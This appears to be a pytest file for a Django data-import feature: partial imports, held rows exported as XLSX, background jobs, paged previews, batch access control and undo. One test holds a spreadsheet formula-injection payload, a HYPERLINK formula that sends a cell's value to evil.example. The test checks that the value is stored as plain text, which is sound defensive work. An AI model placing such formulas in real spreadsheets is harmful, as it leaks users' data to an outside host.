"""Issue 14, points 6 and 8: partial import with the held rows as an XLSX, big files
written by a background job (the real worker code, run_jobs), paged preview, the batch
page with its progress and what it created, and undo.

Through the web pages with real files and the real database; the job runs through
jobs/worker.py in this process (tests/conftest.py run_jobs).
"""

import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from evaluation.models import Certificate, Dossier, OfficialRole
from imports import batches
from imports.held import ERROR_HEADER, LINE_HEADER, held_rows_xlsx
from imports.models import BatchStatus, ImportBatch
from registry.models import AdministrativeUnit, Producer, Product
from tests.factories import ProducerFactory, make_dossier
from tests.imports.rows import HEADERS, csv_bytes, district_row, upload_file

pytestmark = pytest.mark.django_db


def totals():
    return (Producer.objects.count(), Product.objects.count(), Certificate.objects.count())


def preview(client, rows, name="danh-sach.csv"):
    response = client.post(reverse("imports:upload"), {"file": upload_file(csv_bytes(rows), name)})
    assert response.status_code == 200, response.content.decode()[:500]
    return response


def confirm(client, token, **extra):
    return client.post(reverse("imports:confirm"), {"token": token, **extra})


def sheet_rows(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


def bad_stars(**kw):
    return district_row(stars="7", **kw)


# ------------------------------------------------------------------ partial import
def test_the_rows_that_pass_are_imported_and_the_others_held_to_download(as_user, people):
    client = as_user(people["district_office"])
    rows = [district_row(), bad_stars(product_name="Miến dong lỗi"), district_row()]
    response = preview(client, rows, "Hoài Đức 2021.csv")
    html = response.content.decode()
    assert 'id="partial-form"' in html and "Import the 2 rows that pass" in html
    before = totals()

    # the all-or-nothing confirmation still writes nothing while a row fails
    token = response.context["token"]
    response = confirm(client, token, mode="partial")
    batch = ImportBatch.objects.get()
    assert response.status_code == 302 and response.url == reverse("imports:batch", args=[batch.pk])
    assert totals() == (before[0] + 2, before[1] + 2, before[2] + 2)
    assert batch.partial and batch.status == BatchStatus.DONE
    assert batch.held_count == 1 and batch.products_created == 2 and batch.row_count == 3
    line, values, errors = batch.held_rows[0]
    assert line == 3 and values["product_name"] == "Miến dong lỗi" and errors
    assert not Product.objects.filter(name="Miến dong lỗi").exists()

    page = client.get(response.url).content.decode()
    assert 'id="held-rows"' in page and "Miến dong lỗi" in page and 'id="batch-created"' in page

    download = client.get(reverse("imports:batch_held", args=[batch.pk]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith('attachment; filename="dong-chua-nhap-')
    header, held = sheet_rows(download.content)
    assert header[-2:] == [LINE_HEADER, ERROR_HEADER]
    assert HEADERS["product_name"] in header and HEADERS["registration_number"] in header
    assert held[header.index(HEADERS["product_name"])] == "Miến dong lỗi"
    assert held[-2] == "3" and held[-1] == "\n".join(errors)
    # leading zeros of the registration number survive as text
    assert held[header.index(HEADERS["registration_number"])].startswith("01099")

    # fixed in the spreadsheet and uploaded again, the held row reads back and imports
    workbook = load_workbook(io.BytesIO(download.content))
    workbook.active.cell(row=2, column=header.index(HEADERS["stars"]) + 1).value = "3"
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = client.post(
        reverse("imports:upload"), {"file": upload_file(buffer.getvalue(), "sua.xlsx")}
    )
    assert response.status_code == 200
    assert response.context["counts"]["bad"] == 0 and response.context["counts"]["create"] == 1
    confirm(client, response.context["token"])
    assert Product.objects.filter(name="Miến dong lỗi").exists()


def test_a_producer_whose_first_row_is_held_is_carried_by_its_next_passing_row(as_user, people):
    client = as_user(people["district_office"])
    first = bad_stars()
    second = district_row(
        registration_number=first["registration_number"],
        producer_name=first["producer_name"],
        email=first["email"],
    )
    token = preview(client, [first, second]).context["token"]
    confirm(client, token, mode="partial")
    batch = ImportBatch.objects.get()
    assert batch.held_count == 1 and batch.producers_created == 1 and batch.products_created == 1
    assert Producer.objects.filter(registration_number=first["registration_number"]).count() == 1


def test_a_file_where_every_row_fails_offers_no_partial_import(as_user, people):
    client = as_user(people["district_office"])
    response = preview(client, [bad_stars(), bad_stars()])
    html = response.content.decode()
    assert 'id="partial-form"' not in html and 'id="download-held"' in html
    before = totals()
    confirm(client, response.context["token"], mode="partial")
    assert totals() == before and not ImportBatch.objects.exists()


def test_the_rows_with_problems_download_from_the_preview(as_user, people):
    client = as_user(people["district_office"])
    token = preview(client, [district_row(), bad_stars(product_name="Sai")]).context["token"]
    response = client.get(reverse("imports:preview_held", args=[token]))
    header, held = sheet_rows(response.content)
    assert held[header.index(HEADERS["product_name"])] == "Sai" and held[-2] == "3"
    # someone else's preview is not theirs to download
    other = as_user(people["city_office"])
    assert other.get(reverse("imports:preview_held", args=[token])).status_code == 404


def test_a_hostile_cell_stays_text_in_the_held_rows_file():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    content = held_rows_xlsx([[5, {"producer_name": formula, "phone": "+84912"}, ["Lỗi"]]])
    sheet = load_workbook(io.BytesIO(content)).active
    cell = sheet.cell(row=2, column=1)
    assert cell.value == formula and cell.data_type == "s"
    assert all(c.data_type == "s" for c in sheet[2])


# ------------------------------------------------------------------ big files: background
@pytest.fixture
def small_inline(monkeypatch):
    """Files of more than two rows go to the background job."""
    monkeypatch.setattr(batches, "INLINE_ROWS", 2)


def test_a_big_file_is_queued_and_written_by_the_job(as_user, people, run_jobs, small_inline):
    client = as_user(people["district_office"])
    rows = [district_row() for _ in range(4)]
    token = preview(client, rows).context["token"]
    before = totals()
    response = confirm(client, token)
    batch = ImportBatch.objects.get()
    assert response.url == reverse("imports:batch", args=[batch.pk])
    assert batch.status == BatchStatus.QUEUED and totals() == before  # the request wrote nothing
    page = client.get(response.url).content.decode()
    assert 'id="batch-bar"' in page and "import-progress.js" in page
    progress = client.get(reverse("imports:batch_progress", args=[batch.pk])).json()
    assert progress["status"] == "queued" and not progress["finished"]

    # the same preview confirmed again (another tab) is not queued twice
    again = confirm(client, token)
    assert again.url == reverse("imports:upload") and ImportBatch.objects.count() == 1

    assert run_jobs() == 1
    batch.refresh_from_db()
    assert batch.status == BatchStatus.DONE and batch.products_created == 4
    assert batch.source_rows == [] and batch.finished_at is not None
    assert totals() == (before[0] + 4, before[1] + 4, before[2] + 4)
    progress = client.get(reverse("imports:batch_progress", args=[batch.pk])).json()
    assert progress == {
        "status": "done",
        "label": "imported",
        "rows_done": 4,
        "row_count": 4,
        "percent": 100,
        "finished": True,
    }
    assert "import-progress.js" not in client.get(response.url).content.decode()
    # a second run of the job (a retry) writes nothing more
    assert batches.run(batch.pk) == BatchStatus.DONE
    assert totals() == (before[0] + 4, before[1] + 4, before[2] + 4)


def test_a_partial_big_file_holds_its_failing_rows(as_user, people, run_jobs, small_inline):
    client = as_user(people["district_office"])
    token = preview(client, [district_row(), bad_stars(), district_row()]).context["token"]
    confirm(client, token, mode="partial")
    run_jobs()
    batch = ImportBatch.objects.get()
    assert batch.status == BatchStatus.DONE and batch.held_count == 1
    assert batch.products_created == 2


def test_the_job_checks_again_as_the_office_that_asked(as_user, people, run_jobs, small_inline):
    """The trust rules hold in the background: an office moved to another province between
    the confirmation and the job gets nothing written in Hoài Đức."""
    office = people["district_office"]
    client = as_user(office)
    token = preview(client, [district_row() for _ in range(3)]).context["token"]
    confirm(client, token)
    before = totals()
    OfficialRole.objects.filter(user=office).update(
        level="province", unit=AdministrativeUnit.objects.get(level="province", code="33")
    )
    run_jobs()
    batch = ImportBatch.objects.get()
    # kept on the batch in the site's language, whatever the page's
    assert batch.status == BatchStatus.FAILED and "chưa ghi gì" in batch.message
    assert totals() == before
    page = client.get(reverse("imports:batch", args=[batch.pk])).content.decode()
    assert 'id="batch-message"' in page
    # a failed import does not block the file: it may be uploaded again
    assert preview(client, [district_row()]).status_code == 200


def test_the_job_writes_nothing_for_someone_who_may_no_longer_import(
    as_user, people, run_jobs, small_inline
):
    office = people["district_office"]
    token = preview(as_user(office), [district_row() for _ in range(3)]).context["token"]
    confirm(as_user(office), token)
    before = totals()
    OfficialRole.objects.filter(user=office).delete()
    run_jobs()
    batch = ImportBatch.objects.get()
    assert batch.status == BatchStatus.FAILED and "không còn quyền nhập" in batch.message
    assert totals() == before


# ------------------------------------------------------------------ paged preview
def test_a_long_preview_is_paged(as_user, people, monkeypatch):
    from imports import checked

    monkeypatch.setattr(checked, "PAGE_ROWS", 2)
    client = as_user(people["district_office"])
    rows = [district_row(product_name=f"Sản phẩm số {n}") for n in range(5)]
    response = preview(client, rows)
    assert [r["line"] for r in response.context["rows"]] == [2, 3]
    token = response.context["token"]
    page = client.get(reverse("imports:preview", args=[token]), {"trang": 3})
    assert page.status_code == 200 and [r["line"] for r in page.context["rows"]] == [6]
    assert "Rows 5 to 5 of 5" in page.content.decode()
    assert client.get(reverse("imports:preview", args=[token]), {"trang": "x"}).context["page"] == 1
    assert (
        as_user(people["city_office"]).get(reverse("imports:preview", args=[token])).status_code
        == 404
    )


# ------------------------------------------------------------------ who sees a batch
def imported(client, rows):
    token = preview(client, rows).context["token"]
    confirm(client, token)
    return ImportBatch.objects.get(sha256=token)


def batch_urls(batch):
    return [
        reverse(name, args=[batch.pk])
        for name in ("imports:batch", "imports:batch_progress", "imports:batch_held")
    ]


def test_a_batch_is_seen_only_by_its_importer_and_administrators(as_user, people):
    # a partial import, so that the held rows download exists
    client = as_user(people["district_office"])
    token = preview(client, [district_row(), bad_stars()], "b.csv").context["token"]
    confirm(client, token, mode="partial")
    batch = ImportBatch.objects.get(sha256=token)
    for url in batch_urls(batch):
        assert as_user(people["district_office"]).get(url).status_code == 200, url
        assert as_user(people["admin"]).get(url).status_code == 200, url
        assert as_user(people["city_office"]).get(url).status_code == 404, url
        assert as_user(people["far_office"]).get(url).status_code == 404, url
        assert as_user(people["citizen"]).get(url).status_code == 403, url
    undo = reverse("imports:batch_undo", args=[batch.pk])
    assert as_user(people["far_office"]).post(undo, {"confirm": "yes"}).status_code == 404
    assert as_user(people["citizen"]).post(undo, {"confirm": "yes"}).status_code == 403
    assert ImportBatch.objects.get(pk=batch.pk).status == BatchStatus.DONE


def test_the_batch_page_takes_the_same_queries_for_few_and_many_rows(as_user, people):
    client = as_user(people["district_office"])
    counts = []
    for size in (2, 12):
        batch = imported(client, [district_row() for _ in range(size)])
        with CaptureQueriesContext(connection) as queries:
            assert client.get(reverse("imports:batch", args=[batch.pk])).status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1], counts


# ------------------------------------------------------------------ undo
def test_undo_removes_what_the_batch_created_and_is_recorded(as_user, people, import_url):
    client = as_user(people["district_office"])
    existing = ProducerFactory(
        registration_number="0108888888",
        name="Tên cũ",
        commune=AdministrativeUnit.objects.get(level="commune", code="09832"),
        district=AdministrativeUnit.objects.get(level="district", code="274"),
    )
    rows = [district_row(), district_row(registration_number="0108888888")]
    before = totals()
    batch = imported(client, rows)
    assert batch.producers_updated == 1 and batch.producers_created == 1
    assert totals()[1:] == (before[1] + 2, before[2] + 2)
    undo = reverse("imports:batch_undo", args=[batch.pk])

    # without the confirming tick nothing happens
    client.post(undo)
    batch.refresh_from_db()
    assert batch.status == BatchStatus.DONE

    response = client.post(undo, {"confirm": "yes"}, follow=True)
    assert "The import was undone" in response.content.decode(), [
        str(m) for m in response.context["messages"]
    ]
    batch.refresh_from_db()
    assert batch.status == BatchStatus.UNDONE and batch.undone_by == people["district_office"]
    assert batch.undone_at is not None
    assert totals() == before
    existing.refresh_from_db()
    assert existing.name == "Tên cũ"  # the name the import changed is put back
    # each removed certificate left its history
    assert Certificate.history.filter(history_type="-").count() == 2
    # a second undo is refused, and the file may be imported again
    client.post(undo, {"confirm": "yes"})
    assert totals() == before
    assert client.post(import_url, {"file": upload_file(csv_bytes(rows))}).status_code == 200


def test_undo_is_refused_while_something_else_refers_to_its_rows(as_user, cast):
    client = as_user(cast["district_office"])
    batch = imported(client, [district_row()])
    product = Product.objects.get(pk=batch.created_ids["product_ids"][0])
    make_dossier(cast["round"], Dossier.Status.DRAFT, product=product)
    page = client.get(reverse("imports:batch", args=[batch.pk])).content.decode()
    assert 'id="undo-blocked"' in page and 'id="undo-form"' not in page
    before = totals()
    response = client.post(
        reverse("imports:batch_undo", args=[batch.pk]), {"confirm": "yes"}, follow=True
    )
    assert "still refers to rows of this import" in response.content.decode()
    assert totals() == before
    assert ImportBatch.objects.get(pk=batch.pk).status == BatchStatus.DONE


def test_undo_is_refused_once_a_producer_has_an_account(as_user, people):
    client = as_user(people["district_office"])
    batch = imported(client, [district_row()])
    Producer.objects.get(pk=batch.created_ids["producer_ids"][0]).users.add(people["citizen"])
    blockers = batches.undo_blockers(batch)
    assert len(blockers) == 1 and "citizen" in blockers[0], blockers
    with pytest.raises(batches.CannotUndo):
        batches.undo(batch.pk, people["district_office"])
    assert Product.objects.filter(pk__in=batch.created_ids["product_ids"]).exists()


def test_a_big_batch_is_undone_by_the_job(as_user, people, run_jobs, monkeypatch):
    monkeypatch.setattr(batches, "INLINE_ROWS", 1)
    client = as_user(people["district_office"])
    before = totals()
    batch = imported(client, [district_row(), district_row()])
    run_jobs()
    undo = reverse("imports:batch_undo", args=[batch.pk])
    client.post(undo, {"confirm": "yes"})
    batch.refresh_from_db()
    assert batch.status == BatchStatus.UNDOING and totals()[1] == before[1] + 2
    progress = client.get(reverse("imports:batch_progress", args=[batch.pk])).json()
    assert progress["percent"] is None and not progress["finished"]
    page = client.get(reverse("imports:batch", args=[batch.pk])).content.decode()
    assert 'id="undo-form"' not in page and "import-progress.js" in page
    # a second request meanwhile undoes nothing more
    client.post(undo, {"confirm": "yes"})
    assert run_jobs() == 1
    batch.refresh_from_db()
    assert batch.status == BatchStatus.UNDONE and batch.undone_by == people["district_office"]
    assert totals() == before


def test_a_big_undo_that_meets_a_new_reference_goes_back_to_imported(
    as_user, people, run_jobs, monkeypatch
):
    monkeypatch.setattr(batches, "INLINE_ROWS", 1)
    client = as_user(people["district_office"])
    batch = imported(client, [district_row(), district_row()])
    run_jobs()
    client.post(reverse("imports:batch_undo", args=[batch.pk]), {"confirm": "yes"})
    Producer.objects.get(pk=ImportBatch.objects.get().created_ids["producer_ids"][0]).users.add(
        people["citizen"]
    )
    run_jobs()
    batch.refresh_from_db()
    assert batch.status == BatchStatus.DONE and batch.undone_by is None
    assert "citizen" in batch.message


def test_the_held_rows_file_can_carry_the_files_own_headers():
    held = [[7, {"product_name": "Miến dong", "Ghi chú": "xem lại"}, ["Thiếu số sao."]]]
    header, row = sheet_rows(held_rows_xlsx(held, {"product_name": "Tên SP"}))
    assert header == ["Tên SP", "Ghi chú", LINE_HEADER, ERROR_HEADER]
    assert row == ["Miến dong", "xem lại", "7", "Thiếu số sao."]
